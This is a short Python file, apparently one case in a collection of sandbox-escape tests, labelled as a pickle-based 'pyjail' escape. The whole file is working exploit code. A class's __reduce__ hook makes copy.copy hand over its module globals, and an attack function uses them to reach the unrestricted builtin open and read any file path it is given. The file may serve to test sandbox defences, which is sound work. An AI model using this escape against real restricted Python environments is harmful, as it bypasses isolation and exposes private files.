# A class says how it is copied, and has `copy` call what it names.
# after: read
# source: pyjail: pickle
import copy
class A:
    def __reduce__(self):
        return (taken.append, (getattr(copy.copy, "__globals__"),))
taken = []
def attack(path, **_):
    copy.copy(A())
    return {"text": taken[0]["__builtins__"]["open"](path).read()}
